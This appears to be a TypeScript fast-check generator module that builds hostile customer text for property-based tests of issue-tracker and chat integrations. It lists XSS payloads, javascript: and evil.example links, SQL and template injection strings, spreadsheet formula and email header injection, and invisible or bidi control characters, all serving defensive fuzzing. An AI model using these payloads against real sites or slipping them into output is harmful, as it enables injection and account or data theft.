import fc from 'fast-check';
import { isWhole } from '#test/harness/sampled.ts';

/* What customers may type to become more than words: a grammar of attacks, and any Unicode. */

const user = fc.constantFrom('octocat', 'acme/product', 'dana-acme', 'everyone', 'U0123ABC', '!here');
const number = fc.nat(99_999).map(String);
const hash = fc
  .array(fc.constantFrom(...'0123456789abcdef'), { minLength: 7, maxLength: 40 })
  .map((signs) => signs.join(''));
const host = fc.constantFrom('evil.example', 'EVIL.example', 'xn--evl-2na.example', '127.0.0.1', 'evil.example:8080');
const scheme = fc.constantFrom('http', 'HTTPS', 'ftp', 'javascript', 'data', 'linear', 'mailto', 'xmpp', 'vbscript');
const address = fc.oneof(
  fc.tuple(scheme, host).map(([begin, end]) => `${begin}://${end}/?q=1#x`),
  fc.tuple(scheme, host).map(([begin, end]) => `${begin}:x@${end}`),
  host.map((end) => `www.${end}`),
  host.map((end) => `//${end}/p.png`),
  fc.constantFrom(
    'https://uploads.linear.app/a/b',
    'https://linear.app/acme/profiles/dana',
    'https://github.com/acme/x/issues/1',
  ),
);

/** What trackers turn into links of their own. */
const reference = fc.oneof(
  user.map((name) => `@${name}`),
  number.map((id) => `#${id}`),
  number.map((id) => `GH-${id}`),
  fc.tuple(user, number).map(([name, id]) => `acme/${name}#${id}`),
  fc.tuple(fc.constantFrom('fixes', 'Closes:', 'resolve'), number).map(([verb, id]) => `${verb} #${id}`),
  fc.tuple(fc.constantFrom('TEAM', 'SUP', 'P2P', 'eng', 'CVE-2026'), number).map(([team, id]) => `${team}-${id}`),
  hash,
  fc.tuple(user, hash).map(([name, id]) => `${name}@${id}`),
  fc.tuple(hash, hash).map(([from, to]) => `${from}...${to}`),
  fc.constantFrom(
    ':shipit:',
    ':+1:',
    'GHSA-abcd-efgh-ijkl',
    '[~accountid:5b10]',
    '<@U123>',
    '<!channel>',
    '{user:dana}',
  ),
);

const html = fc.oneof(
  fc.constantFrom(
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '</title><script>',
    '<!-- caselite:1.C-1.0 -->',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '<?php',
    '</details>',
    '<details><summary>x</summary>\n\ny\n\n</details>',
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<adf>{"type":"mention"}</adf>',
    '</textarea></p><form action=//evil.example><input name=p>',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '<style>*{display:none}',
    '<base href=//evil.example>',
    '<meta http-equiv=refresh content=0>',
    '<plaintext>',
    '<table><tr><td>',
    '<b',
    '</',
  ),
  fc.constantFrom(
    '&lt;b&gt;',
    '&#64;octocat',
    '&commat;octocat',
    '&#x40;a',
    '&amp;#64;a',
    '&#35;1',
    '&NewLine;# x',
    '&',
  ),
);

const markdown = fc.oneof(
  address.map((url) => `[x](${url})`),
  address.map((url) => `![x](${url})`),
  address.map((url) => `<${url}>`),
  address.map((url) => `[x]: ${url}`),
  address.map((url) => `[x][]\n\n[x]: <${url}> "t"`),
  fc.constantFrom(
    '[^1] [^1]: note',
    '[!WARNING]',
    '> [!NOTE]\n> x',
    '- [ ] task',
    '- [x] done',
    '# x',
    'x\n===',
    'x\n---',
    '***',
    '| a | b |\n|---|---|\n| c | d |',
    '```mermaid\ngraph TD;A-->B\n```',
    '```math\nx^2\n```',
    '~~~\nx',
    '$x^2$',
    '$$\nx\n$$',
    '$`x`$',
    '\\(x\\)',
    '`x`',
    '``',
    '**x**',
    '__x__',
    '*x*',
    '_x_',
    '~~x~~',
    '~x~',
    '==x==',
    '||x||',
    '+++ x\n\ny\n\n+++',
    '1. x',
    '1) x',
    '    code',
    '\tcode',
    'x  \ny',
    'x\\\ny',
    '{{x}}',
    '{code}x{code}',
    'h1. x',
    '----',
    '(!)',
    '\\',
    '\\\\',
    '\\<b>',
    '(c)',
  ),
);

const machine = fc.constantFrom(
  '/closed yes',
  '/close because Fixed',
  '!closed yes',
  '${{ secrets.TOKEN }}',
  '{{ customer.email }}',
  '{% raw %}',
  '#{x}',
  '<%= x %>',
  '${x}',
  '$(x)',
  '%s%n',
  "' OR 1=1 --",
  '=HYPERLINK("http://evil.example")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '|x',
  '","=1+1',
  ';=1+1',
);

const unseen = fc.constantFrom(
  '\u0000',
  '\u0007',
  '\b',
  '\u001b[31m',
  '\u001b]8;;http://evil.example\u0007x\u001b]8;;\u0007',
  '\u009b2J',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200b',
  '\u200d',
  '\u200e',
  '\u200f',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\ufe0f',
  '\u{e0041}',
  '\u{e007f}',
  '\u0336',
  '\u3164',
  '\u115f',
  '\u2800',
  '\ud800',
  '\udfff',
  '\ufffe',
  '\u180e',
);

const headers = fc.constantFrom(
  '\r\nBcc: victim@evil.example',
  '\nBcc: victim@evil.example',
  '\r\n\r\n<script>',
  '\r\nContent-Type: text/html',
  '\n.\n',
  '\n--boundary',
  '=?utf-8?q?=0ABcc:x?=',
  '"x" <victim@evil.example>, ',
  '%0d%0aBcc:x',
);

const glue = fc.constantFrom(
  '',
  ' ',
  '\n',
  '\n\n',
  '\r\n',
  '\t',
  '.',
  ',',
  '(',
  ')',
  '"',
  "'",
  ':',
  '-',
  '_',
  '/',
  '\\',
  '&',
  'a',
  'é',
  '日',
  'א',
  '0',
);

const piece = fc.oneof(
  reference,
  address,
  html,
  markdown,
  machine,
  unseen,
  headers,
  fc.string({ unit: 'grapheme', maxLength: 8 }),
  fc.string({ unit: 'binary', maxLength: 8 }),
  fc.string({ unit: 'binary-ascii', maxLength: 8 }),
);

/** Words of a customer who means it. */
export const hostileWords = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.array(fc.oneof(piece, glue), { minLength: 1, maxLength: 10 }).map((parts) => parts.join('')),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
);

/** A bounded number in a check, and more at night. */
export const hostileRuns = (count: number): { numRuns: number; seed?: number } =>
  isWhole ? { numRuns: count * 20 } : { numRuns: count, seed: 1 };
